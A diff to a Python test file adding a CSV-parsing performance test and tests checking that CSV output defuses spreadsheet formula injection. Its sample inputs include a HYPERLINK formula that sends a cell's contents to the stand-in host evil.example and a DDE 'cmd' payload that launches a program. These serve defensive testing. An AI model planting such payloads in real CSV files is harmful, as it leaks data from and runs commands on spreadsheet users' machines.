@@ -7,6 +7,8 @@ import subprocess
 
 import pytest
 
+from attractor_nb.cli import params_files
+from attractor_nb.cli.params_files import _line_span, read_params_file
 from attractor_nb.errors import StorageError
 from attractor_nb.maps.map_result import MapRun
 from attractor_nb.storage.map_directory import read_map
@@ -90,6 +92,17 @@ def test_csv_with_another_separator_is_read(command, sources, text):
 def test_a_value_of_csv_may_be_long(command, sources):
     (sources / "rows.csv").write_text(f"ticket,note\n{'x' * 200_000},one\n")
     assert command("map", "straight.dot", "--params", "rows.csv", "--json", "-q").code == 0
+
+
+def test_the_place_of_a_row_of_csv_is_looked_for_only_when_it_is_wrong(tmp_path, monkeypatch):
+    """A file of 20,000 rows took 21 seconds, and one of 100,000 nine minutes."""
+    found = []
+    monkeypatch.setattr(
+        params_files, "_line_span", lambda source, number: found.append(number) or _line_span(source, number)
+    )
+    (tmp_path / "rows.csv").write_text("a,b\n" + "1,2\n" * 1000)
+    assert len(read_params_file(tmp_path / "rows.csv")) == 1000
+    assert found == [1]
 
 
 def test_blank_lines_of_csv_are_no_rows(command, sources):
@@ -176,6 +189,37 @@ def test_results_as_csv_have_a_line_for_each_row(command, tickets):
     assert (first["row"], first["ticket"], first["note"], first["status"]) == ("0", "41", "one, two", "success")
     assert (first["tool.output"], second["tool.output"]) == ("first, and more\n", "")
     assert (second["row"], second["status"], "exit code 3" in second["reason"]) == ("1", "fail", True)
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example?"&A1)',
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "\uff1d1+1",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_spreadsheet_executes_nothing_that_results_as_csv_contain(command, tickets, text):
+    (tickets / "rows.jsonl").write_text(json.dumps({"ticket": text, text: "x"}) + "\n")
+    ended = command("map", "straight.dot", "--params", "rows.jsonl", "-q", "--out", "r.csv", "--output", "ticket")
+    assert ended.code == 0, ended.err
+    with (tickets / "r.csv").open(newline="") as file:
+        cells = [cell for row in csv.reader(file) for cell in row]
+    assert f"'{text}" in cells
+    assert not [cell for cell in cells if cell[:1] in set("=+-@\t\r\uff1d") and cell]
+
+
+@pytest.mark.parametrize("text", ["-5", "+3.25", "-1e-3", "a=b", "", "'quoted", "one\r=2", "one\r\ntwo\n"])
+def test_a_number_and_a_plain_text_stand_in_csv_as_they_are(command, tickets, text):
+    (tickets / "rows.jsonl").write_text(json.dumps({"ticket": text}) + "\n")
+    command("map", "straight.dot", "--params", "rows.jsonl", "-q", "--out", "r.csv", "--output", "ticket")
+    with (tickets / "r.csv").open(newline="") as file:
+        (row,) = csv.DictReader(file)
+    assert row["ticket"] == text
 
 
 def test_values_in_csv_that_are_no_text_are_json(command, tickets):
